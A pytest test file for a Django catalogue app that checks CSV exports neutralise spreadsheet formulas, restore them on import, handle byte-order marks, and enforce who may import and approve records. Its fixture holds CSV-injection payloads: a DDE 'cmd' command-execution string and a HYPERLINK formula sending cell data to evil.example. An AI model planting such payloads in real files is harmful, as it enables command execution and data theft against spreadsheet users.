"""Formula-safe CSV in every writer, its exact reversal on import, byte-order marks, and
CSV imports that say who writes (issues 14 and 15)."""

import csv
import io
from io import StringIO

import pytest
from django.contrib.auth.models import User
from django.core.management import CommandError, call_command
from django.urls import reverse

from catalogue.models import Standard
from core.csv_cells import csv_cell, csv_uncell
from exchange.csv_io import MAPPING_COLUMNS, csv_export, csv_import
from mappings.models import StandardObjectiveLink
from tests.factories import ObjectiveFactory, ObjectiveLinkFactory, StandardFactory, make_user

pytestmark = pytest.mark.django_db

FORMULAS = {
    "title": '+cmd|"/C calc"!A0',
    "summary": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "notes": "@SUM(1+1)",
    "source": "-5 degrees, a real value",
    "aliases": "'quoted already",
}
EVALUATED = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "'x", "''x", "plain", "", "a=b", "—"],
)
def test_cell_round_trips_and_never_starts_with_a_formula(value):
    cell = csv_cell(value)
    assert not cell.startswith(EVALUATED)
    assert csv_uncell(cell) == value


@pytest.fixture
def hostile():
    return StandardFactory(
        reference="TEST/IEC 66601:2025",
        slug="test-iec-66601-2025",
        title=FORMULAS["title"],
        summary=FORMULAS["summary"],
        notes=FORMULAS["notes"],
        source=FORMULAS["source"],
        aliases=FORMULAS["aliases"],
        committee=None,
    )


def cells(text: str, reference: str) -> dict:
    rows = csv.DictReader(io.StringIO(text.lstrip("\ufeff")))
    return next(row for row in rows if row["reference"] == reference)


def assert_neutralised(row: dict, columns):
    for column in columns:
        assert row[column] == "'" + FORMULAS[column], column


def test_export_csv_neutralises_and_import_restores_byte_for_byte(hostile):
    out = StringIO()
    csv_export(kind="standards", out=out)
    text = out.getvalue()
    assert_neutralised(cells(text, hostile.reference), FORMULAS)

    Standard.objects.filter(pk=hostile.pk).delete()
    report = csv_import(kind="standards", text=text, dry_run=False)
    assert report.applied, report.lines()
    restored = Standard.objects.get(reference=hostile.reference)
    assert restored.title == FORMULAS["title"] and restored.summary == FORMULAS["summary"]
    assert restored.source == FORMULAS["source"] and restored.aliases == FORMULAS["aliases"]
    again = StringIO()
    csv_export(kind="standards", out=again)
    assert again.getvalue() == text


def test_export_csv_command_writes_a_bom_on_request(hostile, tmp_path):
    path = tmp_path / "standards.csv"
    call_command("export_csv", "standards", str(path), "--bom", stderr=StringIO())
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert_neutralised(cells(text, hostile.reference), FORMULAS)
    plain = tmp_path / "plain.csv"
    call_command("export_csv", "standards", str(plain), stderr=StringIO())
    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")


def test_admin_export_has_a_bom_neutralises_and_imports_back(hostile, client):
    client.force_login(User.objects.create_superuser("root", password="pw"))
    response = client.get(reverse("admin:catalogue_standard_export_csv"))
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    assert_neutralised(cells(text, hostile.reference), FORMULAS)
    report = csv_import(kind="standards", text=text, dry_run=True)
    assert report.counts["rejected"] == 0 and report.counts["updated"] == 0, report.lines()


def test_public_csv_neutralises_formulas(hostile, client):
    Standard.objects.filter(pk=hostile.pk).update(review_state="approved")
    response = client.get("/api/v1/standards/", {"format": "csv", "q": "66601"})
    text = b"".join(response.streaming_content).decode("utf-8")
    row = cells(text, hostile.reference)
    assert row["title"] == "'" + FORMULAS["title"]
    assert not any(value.startswith(EVALUATED) for value in row.values())


def test_public_csv_with_bom_keeps_the_em_dash_for_spreadsheets(client):
    response = client.get("/api/v1/standards/", {"format": "csv", "bom": "1"})
    assert response.status_code == 200
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert "—" in text and not text.startswith("\ufeff")
    title = cells(text, "ISO/IEC 42001:2023")["title"]
    assert title == "Information technology — Artificial intelligence — Management system"
    plain = b"".join(client.get("/api/v1/standards/", {"format": "csv"}).streaming_content)
    assert not plain.startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("value", ["2", "yes", "true", ""])
def test_public_csv_bom_other_than_0_or_1_is_a_400_naming_it(client, value):
    response = client.get("/api/v1/standards/", {"format": "csv", "bom": value})
    assert response.status_code == 400
    assert "Allowed: 0, 1." in response.json()["bom"][0]


# -- import_csv says who writes ----------------------------------------------------------------


def test_import_csv_refuses_without_user_or_system(tmp_path):
    path = tmp_path / "standards.csv"
    call_command("export_csv", "standards", str(path), stderr=StringIO())
    with pytest.raises(CommandError, match="--user NAME .* or --system"):
        call_command("import_csv", "standards", str(path), stdout=StringIO())


def test_import_csv_as_a_user_records_them_and_applies_their_permissions(tmp_path, curator):
    standard = StandardFactory(title="Before")
    out = StringIO()
    csv_export(kind="standards", out=out)
    path = tmp_path / "standards.csv"
    path.write_text(out.getvalue().replace(",Before,", ",After,"))
    call_command("import_csv", "standards", str(path), "--user", "curator", stdout=StringIO())
    standard.refresh_from_db()
    assert standard.title == "After"
    latest = standard.history.latest()
    assert (latest.history_user, latest.history_change_reason) == (curator, "CSV import")

    make_user("reader")
    path.write_text(out.getvalue().replace(",Before,", ",Again,"))
    with pytest.raises(CommandError, match="Nothing was imported"):
        call_command("import_csv", "standards", str(path), "--user", "reader", stdout=StringIO())
    standard.refresh_from_db()
    assert standard.title == "After"


def test_import_csv_system_is_written_to_history(tmp_path):
    standard = StandardFactory(title="Before")
    out = StringIO()
    csv_export(kind="standards", out=out)
    path = tmp_path / "standards.csv"
    path.write_text(out.getvalue().replace(",Before,", ",After,"))
    result = StringIO()
    call_command("import_csv", "standards", str(path), "--system", stdout=result)
    assert "as a system operation" in result.getvalue()
    latest = Standard.objects.get(pk=standard.pk).history.latest()
    assert latest.history_user is None
    assert "system operation" in latest.history_change_reason


def test_review_state_in_the_file_is_not_trusted_from_a_non_reviewer(curator, reviewer):
    link = ObjectiveLinkFactory(
        review_state="proposed", recorded_by=curator, objective=ObjectiveFactory(code="4.2")
    )
    out = StringIO()
    csv_export(kind="mappings", out=out)
    approved = out.getvalue().replace(",proposed\n", ",approved\n")
    assert approved != out.getvalue()

    report = csv_import(kind="mappings", text=approved, user=curator, dry_run=False)
    assert not report.applied
    assert any("only a reviewer may change it" in " ".join(r.errors) for r in report.rows)
    link.refresh_from_db()
    assert link.review_state == "proposed"

    report = csv_import(kind="mappings", text=approved, user=reviewer, dry_run=False)
    assert report.applied, report.lines()
    link.refresh_from_db()
    assert (link.review_state, link.reviewed_by) == ("approved", reviewer)


def test_new_links_from_a_user_are_proposals_whatever_the_file_says(curator):
    standard = StandardFactory()
    text = ",".join(MAPPING_COLUMNS) + "\n"
    text += f"objective,{standard.reference},4.4,,supports,A reading,,medium,,approved\n"
    report = csv_import(kind="mappings", text=text, user=curator, dry_run=False)
    assert report.applied, report.lines()
    link = StandardObjectiveLink.objects.get(standard=standard, objective__code="4.4")
    assert (link.review_state, link.recorded_by) == ("proposed", curator)
